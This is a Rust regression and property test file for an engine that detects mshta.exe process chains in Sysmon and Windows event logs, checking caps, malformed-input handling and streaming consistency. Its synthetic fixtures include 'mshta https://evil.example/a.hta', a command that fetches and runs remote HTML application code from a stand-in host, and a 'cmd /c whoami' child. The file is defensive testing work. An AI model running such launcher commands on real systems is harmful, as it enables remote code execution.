//! Issue 16, "hostile input, for real": each defect the black-box review
//! found, as a regression test (large inputs generated here, never
//! committed), plus two properties: pushing any event never grows tracked
//! state past the caps, and the report is the same whatever the cut of the
//! input, cuts at the first byte of an array included. No timings are
//! asserted: what is asserted is what bounds the work (sizes kept, counts).

mod support;

use mshta_chain_core::{analyze, Config, Engine, Report};
use support::Rng;

const T0: i64 = 1_714_557_600_000; // 2024-05-01T10:00:00Z
const MSHTA: &str = r"C:\Windows\System32\mshta.exe";
const CMD: &str = r"C:\Windows\System32\cmd.exe";

/// Sysmon's `UtcTime` text of an instant (the telemetry crate's formatter).
fn utc(ms: i64) -> String {
    mshta_chain_telemetry::timefmt::sysmon(ms)
}

fn guid(n: u64) -> String {
    format!("{{11111111-0000-0000-0000-{n:012x}}}")
}

/// One Sysmon 1 line (JSON-escaped by serde_json).
#[allow(clippy::too_many_arguments)]
fn start(host: &str, t: i64, g: u64, pid: u64, image: &str, cmd: &str, pg: u64, ppid: u64, pimage: &str) -> String {
    serde_json::json!({
        "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Hostname": host,
        "UtcTime": utc(t), "ProcessGuid": guid(g), "ProcessId": pid.to_string(), "Image": image,
        "CommandLine": cmd, "ParentProcessGuid": guid(pg), "ParentProcessId": ppid.to_string(),
        "ParentImage": pimage,
    })
    .to_string()
}

fn dns(host: &str, t: i64, g: u64, pid: u64, query: &str) -> String {
    serde_json::json!({
        "EventID": 22, "Channel": "Microsoft-Windows-Sysmon/Operational", "Hostname": host,
        "UtcTime": utc(t), "ProcessGuid": guid(g), "ProcessId": pid.to_string(), "Image": MSHTA,
        "QueryName": query,
    })
    .to_string()
}

fn root() -> String {
    start("PC1", T0, 1, 100, MSHTA, "mshta https://evil.example/a.hta", 99, 99, r"C:\Windows\explorer.exe")
}

fn child(i: u64) -> String {
    start("PC1", T0 + 1 + i as i64, 1000 + i, 1000 + i, CMD, "cmd /c whoami", 1, 100, MSHTA)
}

fn lines(v: &[String]) -> String {
    v.iter().map(|l| format!("{l}\n")).collect()
}

fn run(input: &str, config: Config) -> Report {
    analyze(input.as_bytes(), &config).unwrap()
}

/// Item 1: One mshta with many children: the chain lists at most
/// `max_chain_children`, counts them all, and tracked processes stay
/// within `max_processes` after every push, chain members included.
#[test]
fn a_chain_with_many_children_is_capped_and_counted() {
    let n = 20_000u64;
    let config = Config { max_processes: 1_000, max_chain_children: 50, ..Config::default() };
    let mut e = Engine::new(config.clone()).unwrap();
    e.push(lines(&[root()]).as_bytes());
    for batch in (0..n).collect::<Vec<_>>().chunks(2_000) {
        let text = lines(&batch.iter().map(|&i| child(i)).collect::<Vec<_>>());
        let update = e.push(text.as_bytes());
        for c in &update.chains {
            assert!(c.chain.children.len() <= 50, "{}", c.chain.children.len());
        }
        let stats = e.report().stats;
        assert!(stats.processes_tracked <= 1_000, "{}", stats.processes_tracked);
    }
    let r = e.finish();
    let c = &r.chains[0];
    assert_eq!(r.chains.len(), 1);
    assert_eq!(c.children.len(), 50);
    assert_eq!(c.totals.children_total, n);
    assert!(c.totals.truncated);
    assert!(r.stats.chain_items_dropped >= n - 50);
    // The first seen are kept.
    assert_eq!(c.children[0].pid, 1000);
}

/// Item 1: Chain members beyond `max_processes` are evicted (and counted in
/// their chain) even when the per-chain cap would keep them.
#[test]
fn chain_members_never_exceed_max_processes() {
    let config = Config { max_processes: 100, max_chain_children: 10_000, ..Config::default() };
    let mut text = lines(&[root()]);
    text.push_str(&lines(&(0..500).map(child).collect::<Vec<_>>()));
    let mut e = Engine::new(config).unwrap();
    e.push(text.as_bytes());
    let r = e.report();
    assert!(r.stats.processes_tracked <= 100, "{}", r.stats.processes_tracked);
    assert!(r.stats.processes_evicted >= 400);
    let c = &r.chains[0];
    assert_eq!(c.totals.children_total, 500);
    assert!(c.totals.truncated);
}

/// Item 1: Activity per chain is capped per kind, distinct targets first.
#[test]
fn chain_activity_is_capped_per_kind_with_distinct_targets_first() {
    let config = Config { max_chain_activity: 20, ..Config::default() };
    let mut v = vec![root()];
    for i in 0..300u64 {
        // Two distinct queries among many repeats: both must be kept.
        let q = if i == 250 { "rare.example" } else { "common.example" };
        v.push(dns("PC1", T0 + 10 + i as i64, 1, 100, q));
    }
    let r = run(&lines(&v), config);
    let c = &r.chains[0];
    assert_eq!(c.dns.len(), 20);
    assert_eq!(c.totals.dns_total, 300);
    assert!(c.dns.iter().any(|d| d.query == "rare.example"));
}

/// Item 2: A chain streamed one event per push: every update carries a bounded
/// chain (the work per push does not grow with the chain).
#[test]
fn streaming_a_chain_one_event_per_push_stays_bounded() {
    let config = Config { max_chain_children: 30, ..Config::default() };
    let mut e = Engine::new(config).unwrap();
    e.push(lines(&[root()]).as_bytes());
    let mut last_version = 0;
    for i in 0..600 {
        let u = e.push(lines(&[child(i)]).as_bytes());
        assert_eq!(u.chains.len(), 1, "each push changes the chain's totals");
        let c = &u.chains[0];
        assert!(c.chain.children.len() <= 30);
        assert_eq!(c.chain.totals.children_total, i + 1);
        assert!(c.version > last_version);
        last_version = c.version;
    }
}

/// Item 3: The inventory is capped, the overflow counted and reported.
#[test]
fn the_inventory_is_capped_with_a_counted_overflow() {
    let config = Config { max_inventory: 10, ..Config::default() };
    let letters = |mut n: u64| {
        let mut s = String::new();
        loop {
            s.push((b'a' + (n % 26) as u8) as char);
            n /= 26;
            if n == 0 {
                return s;
            }
        }
    };
    let v: Vec<String> = (0..50u64)
        .map(|i| {
            let cmd = format!("mshta https://{}.example/a.hta", letters(i));
            start("PC1", T0 + i as i64 * 10, 10 + i, 10 + i, MSHTA, &cmd, 5, 5, r"C:\Windows\explorer.exe")
        })
        .collect();
    let r = run(&lines(&v), config);
    assert_eq!(r.inventory.len(), 10);
    assert_eq!(r.stats.inventory_overflow, 40);
    assert!(r.warnings.iter().any(|w| w.contains("max_inventory")), "{:?}", r.warnings);
}

/// Item 4: A first line that is a JSON array does not switch the input to
/// array mode: every chain after it is found.
#[test]
fn a_json_array_line_is_one_item_set_not_a_mode() {
    let plain = run(&lines(&[root(), child(0)]), Config::default());
    for first in ["[]", "[1]", "[ ]", "[{}]"] {
        let r = run(&format!("{first}\n{}", lines(&[root(), child(0)])), Config::default());
        assert_eq!(r.chains.len(), 1, "{first}");
        assert_eq!(r.chains[0].score, plain.chains[0].score, "{first}");
        assert_eq!(r.chains[0].children.len(), 1, "{first}");
    }
}

/// Item 5: A lone UTF-16 surrogate in the command line (as JSON.stringify and
/// Python write one) no longer hides the chain; the items are flagged.
#[test]
fn a_lone_surrogate_does_not_hide_the_chain() {
    let plain = run(&lines(&[root(), child(0)]), Config::default());
    let r0 = root().replace("a.hta", "a\\ud800.hta");
    let c0 = child(0).replace("whoami", "whoami\\udfff");
    let r = run(&lines(&[r0, c0]), Config::default());
    assert_eq!(r.stats.rejected, 0, "{:?}", r.errors);
    assert_eq!(r.chains.len(), 1);
    assert_eq!(r.chains[0].score, plain.chains[0].score);
    assert!(r.chains[0].root.command_line.as_deref().unwrap_or("").contains('\u{fffd}'));
    assert_eq!(r.stats.repaired_items, 2);
    assert!(r.warnings.iter().any(|w| w.starts_with("item 0:") && w.contains("surrogate")), "{:?}", r.warnings);
}

/// Item 6: Eviction past `max_processes` on one host: all counted, the cap held.
#[test]
fn eviction_past_the_cap_on_one_host_holds_the_cap() {
    let config = Config { max_processes: 1_000, ..Config::default() };
    let v: Vec<String> =
        (0..10_000u64).map(|i| start("PC1", T0 + i as i64, 10 + i, 10 + i, CMD, "cmd", 5, 5, CMD)).collect();
    let mut e = Engine::new(config).unwrap();
    for chunk in v.chunks(1_000) {
        e.push(lines(chunk).as_bytes());
        assert!(e.report().stats.processes_tracked <= 1_000);
    }
    let r = e.finish();
    assert_eq!(r.stats.processes_evicted, 9_000);
}

/// Item 7: One element nested deeper than 128 levels is skipped like any bad
/// element: the rest of the array is read.
#[test]
fn a_deep_element_does_not_drop_the_rest_of_the_array() {
    let deep = format!("{{\"x\":{}{}}}", "[".repeat(300), "]".repeat(300));
    let r = run(&format!("[{deep},{},{}]", root(), child(0)), Config::default());
    assert_eq!(r.stats.rejected, 1);
    assert!(r.errors[0].reason.contains("nested deeper"));
    assert_eq!(r.chains.len(), 1);
    assert_eq!(r.chains[0].children.len(), 1);
}

/// Item 9: Starts sharing a pid and a time, with long command lines that differ
/// only at the end: each is its own process (pid reuse, not a repeat).
#[test]
fn same_pid_same_time_starts_are_distinct_processes() {
    let long = "A".repeat(20_000);
    let v: Vec<String> = (0..200)
        .map(|i| {
            serde_json::json!({"EventID": 4688, "Channel": "Security", "Hostname": "PC1",
                "TimeCreated": "2024-05-01T10:00:00.000Z", "NewProcessId": "0x1004",
                "NewProcessName": CMD, "ProcessId": "0xf3c", "ParentProcessName": r"C:\Windows\explorer.exe",
                "CommandLine": format!("cmd /c {long} {i}")})
            .to_string()
        })
        .collect();
    let r = run(&lines(&v), Config::default());
    assert_eq!(r.stats.processes_tracked, 200);
    assert_eq!(r.stats.merged_starts, 0);
    // An exact repeat (at-least-once delivery) is still one process.
    let r = run(&lines(&[v[0].clone(), v[0].clone()]), Config::default());
    assert_eq!(r.stats.processes_tracked, 1);
}

/// Item 11: One far-future event does not move its host's clock: nothing turns
/// late, the chain keeps its reasons, and a warning says so.
#[test]
fn a_far_future_event_is_quarantined_with_a_warning() {
    let mut v = vec![root()];
    v.extend((0..30).map(child));
    let plain = run(&lines(&v), Config::default());
    v.insert(1, start("PC1", 253_402_300_000_000, 7, 7, CMD, "x", 8, 8, CMD));
    let r = run(&lines(&v), Config::default());
    assert_eq!(r.stats.late_events, 0);
    assert_eq!(r.stats.clock_outliers, 1);
    assert!(r.warnings.iter().any(|w| w.contains("quarantined")), "{:?}", r.warnings);
    let ids = |r: &Report| r.chains[0].reasons.iter().map(|x| x.id.clone()).collect::<Vec<_>>();
    assert_eq!(ids(&r), ids(&plain));
    assert_eq!(r.chains[0].score, plain.chains[0].score);
    // A second event near it confirms the jump (a host back after a gap):
    // the first was no outlier, and nothing is left to warn about.
    let mut v2 = v.clone();
    v2.push(start("PC1", 253_402_300_000_500, 9, 9, CMD, "x", 8, 8, CMD));
    let r = run(&lines(&v2), Config::default());
    assert_eq!(r.stats.clock_outliers, 0);
    assert!(!r.warnings.iter().any(|w| w.contains("quarantined")), "{:?}", r.warnings);
}

/// Item 13: CR-only line endings and several objects on one line split into
/// their items.
#[test]
fn cr_only_endings_and_objects_on_one_line_are_items() {
    let plain = run(&lines(&[root(), child(0)]), Config::default());
    for text in
        [format!("{}\r{}\r", root(), child(0)), format!("{} {}\n", root(), child(0)), format!("{}{}", root(), child(0))]
    {
        let r = run(&text, Config::default());
        assert_eq!(r.stats.events, 2, "{text:.40}");
        assert_eq!(r.stats.rejected, 0);
        assert_eq!(r.chains[0].score, plain.chains[0].score);
    }
}

/// Item 14: `coverage.hosts_not_listed` counts every host left out.
#[test]
fn hosts_not_listed_counts_every_host_left_out() {
    let v: Vec<String> =
        (0..10_050u64).map(|h| start(&format!("H{h}"), T0, 10 + h, 10 + h, CMD, "x", 5, 5, CMD)).collect();
    let r = run(&lines(&v), Config::default());
    assert_eq!(r.coverage.hosts_not_listed, 50);
}

/// Item 17: A self-parented mshta is one chain, not two.
#[test]
fn a_self_parented_mshta_is_one_chain() {
    let l = start("PC1", T0, 1, 100, MSHTA, "mshta https://evil.example/a.hta", 1, 100, MSHTA);
    let r = run(&lines(&[l]), Config::default());
    assert_eq!(r.chains.len(), 1);
    assert!(!r.chains[0].root.inferred);
}

/// Item 18: One out-of-range numeric field no longer rejects an event its GUID
/// identifies: the field is null, the item flagged.
#[test]
fn a_bad_numeric_field_is_nulled_when_the_guid_identifies_the_event() {
    let plain = run(&lines(&[root(), child(0)]), Config::default());
    for bad in ["\"-1\"", "-1", "18446744073709551616", "\"NaN\"", "1e999"] {
        let r0 = root().replace("\"ParentProcessId\":\"99\"", &format!("\"ParentProcessId\":{bad}"));
        let c0 = child(0).replace("\"ProcessId\":\"1000\"", &format!("\"ProcessId\":{bad}"));
        assert_ne!(c0, child(0), "the test edits the field");
        let r = run(&lines(&[r0, c0]), Config::default());
        assert_eq!(r.stats.rejected, 0, "{bad}: {:?}", r.errors);
        assert_eq!(r.chains.len(), 1, "{bad}");
        assert_eq!(r.chains[0].children.len(), 1, "{bad}");
        assert_eq!(r.chains[0].score, plain.chains[0].score, "{bad}");
        assert_eq!(r.stats.repaired_items, 2, "{bad}: {:?}", r.warnings);
    }
    // Without a GUID, nothing identifies it: still rejected, saying why.
    let no_guid = serde_json::json!({"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Hostname": "PC1", "UtcTime": utc(T0), "ProcessId": "-5", "Image": CMD})
    .to_string();
    let r = run(&lines(&[no_guid]), Config::default());
    assert_eq!(r.stats.rejected, 1);
    assert!(r.errors[0].reason.contains("ProcessId"), "{:?}", r.errors);
}

/// Item 16: A snapshot whose checksum is right but whose values are forged (here:
/// truncated to a valid prefix with a recomputed checksum is not possible
/// without the internals, so a damaged byte re-sealed) fails at restore or
/// restores into an engine whose report works: never later.
#[test]
fn a_resealed_damaged_snapshot_fails_at_restore_or_works() {
    let mut e = Engine::new(Config::default()).unwrap();
    e.push(lines(&[root(), child(0), child(1)]).as_bytes());
    let snap = e.snapshot();
    let body = 14..snap.len() - 8;
    let mut rng = Rng(16);
    for _ in 0..300 {
        let mut s = snap.clone();
        let at = body.start + rng.below(body.len());
        s[at] = s[at].wrapping_add(1 + rng.below(255) as u8);
        // Re-seal: FNV-1a-64 of the payload, as the format writes it.
        let sum = s[body.clone()]
            .iter()
            .fold(0xcbf2_9ce4_8422_2325u64, |h, &b| (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3));
        let end = s.len() - 8;
        s[end..].copy_from_slice(&sum.to_le_bytes());
        if let Ok(mut restored) = Engine::restore_saved(&s) {
            let report = restored.report();
            let json = serde_json::to_value(&report).unwrap();
            assert!(max_number(&json) <= (1u64 << 53), "a restored report holds only JS-safe numbers");
            restored.push(lines(&[child(2)]).as_bytes());
            let _ = restored.finish();
        }
    }
}

fn max_number(v: &serde_json::Value) -> u64 {
    match v {
        serde_json::Value::Number(n) => n.as_u64().or_else(|| n.as_i64().map(i64::unsigned_abs)).unwrap_or(0),
        serde_json::Value::Array(a) => a.iter().map(max_number).max().unwrap_or(0),
        serde_json::Value::Object(o) => o.values().map(max_number).max().unwrap_or(0),
        _ => 0,
    }
}

/// A random event near a small set of processes: starts (mshta and not),
/// network, DNS, files, ends; on a few hosts.
fn random_event(rng: &mut Rng, t: i64) -> String {
    let host = format!("H{}", rng.below(3));
    let g = 1 + rng.below(60) as u64;
    let pg = 1 + rng.below(60) as u64;
    let image = if rng.chance(20) { MSHTA } else { CMD };
    match rng.below(5) {
        0 | 1 => start(&host, t, g, g, image, "mshta https://x.example/a.hta", pg, pg, MSHTA),
        2 => dns(&host, t, g, g, &format!("q{}.example", rng.below(40))),
        3 => serde_json::json!({"EventID": 11, "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Hostname": host, "UtcTime": utc(t), "ProcessGuid": guid(g), "ProcessId": g.to_string(),
            "Image": image, "TargetFilename": format!("C:\\Users\\Public\\f{}.txt", rng.below(50))})
        .to_string(),
        _ => serde_json::json!({"EventID": 3, "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Hostname": host, "UtcTime": utc(t), "ProcessGuid": guid(g), "ProcessId": g.to_string(),
            "Image": image, "DestinationIp": format!("203.0.113.{}", rng.below(200)), "DestinationPort": "443",
            "Initiated": "true"})
        .to_string(),
    }
}

/// Property: pushing any event never grows tracked state past the caps
/// (processes, activity, per-chain lists), checked after every push.
#[test]
fn pushing_any_event_never_grows_state_past_the_caps() {
    let config = Config {
        max_processes: 100,
        max_activity: 100,
        max_chain_children: 7,
        max_chain_activity: 5,
        ..Config::default()
    };
    for seed in 0..4 {
        let mut rng = Rng(seed + 1);
        let mut e = Engine::new(config.clone()).unwrap();
        let mut t = T0;
        for _ in 0..1_500 {
            t += rng.below(400) as i64;
            let u = e.push(format!("{}\n", random_event(&mut rng, t)).as_bytes());
            for c in &u.chains {
                let c = &c.chain;
                assert!(c.children.len() <= 7, "seed {seed}");
                for (len, total) in [
                    (c.files.len(), c.totals.files_total),
                    (c.network.len(), c.totals.network_total),
                    (c.dns.len(), c.totals.dns_total),
                    (c.modules.len(), c.totals.modules_total),
                ] {
                    // A file run by the root is listed beside the capped ones.
                    assert!(len <= 6, "seed {seed}: {len}");
                    assert!(len as u64 <= total);
                }
                assert!(c.children.len() as u64 <= c.totals.children_total);
            }
            let s = e.report().stats;
            assert!(s.processes_tracked <= 100, "seed {seed}: {}", s.processes_tracked);
            assert!(s.activity_tracked <= 100, "seed {seed}: {}", s.activity_tracked);
        }
    }
}

/// Property: the report is the same whatever the cut of the input, cuts at
/// the first byte of an array included, over inputs mixing JSON Lines,
/// arrays, several objects per line, pretty-printed objects and CR endings.
#[test]
fn the_report_is_the_same_whatever_the_cut() {
    for seed in 0..6u64 {
        let mut rng = Rng(seed + 100);
        let mut t = T0;
        let mut text = String::new();
        for _ in 0..40 {
            t += rng.below(2_000) as i64;
            let ev = random_event(&mut rng, t);
            match rng.below(6) {
                0 => {
                    let ev2 = random_event(&mut rng, t + 1);
                    text.push_str(&format!("[{ev},\n{ev2}]\n"));
                }
                1 => text.push_str(&format!("{ev} ")),
                2 => text.push_str(&format!("{ev}\r")),
                3 => {
                    let pretty =
                        serde_json::to_string_pretty(&serde_json::from_str::<serde_json::Value>(&ev).unwrap()).unwrap();
                    text.push_str(&format!("{pretty}\n"));
                }
                4 => text.push_str("[]\n"),
                _ => text.push_str(&format!("{ev}\r\n")),
            }
        }
        let whole = run(&text, Config::default());
        assert!(whole.stats.events >= 20 && whole.stats.rejected == 0, "seed {seed}: {:?}", whole.errors);
        // Every cut at an array's first byte, and random cuts.
        let mut cuts: Vec<usize> = text.match_indices('[').map(|(i, _)| i).collect();
        cuts.extend((0..30).map(|_| rng.below(text.len())));
        for &cut in &cuts {
            let mut e = Engine::new(Config::default()).unwrap();
            e.push(&text.as_bytes()[..cut]);
            e.push(&text.as_bytes()[cut..]);
            assert_eq!(e.finish(), whole, "seed {seed}, cut at {cut}");
        }
        // Many small pieces.
        let mut e = Engine::new(Config::default()).unwrap();
        for piece in text.as_bytes().chunks(1 + rng.below(50)) {
            e.push(piece);
        }
        assert_eq!(e.finish(), whole, "seed {seed}, small pieces");
    }
}
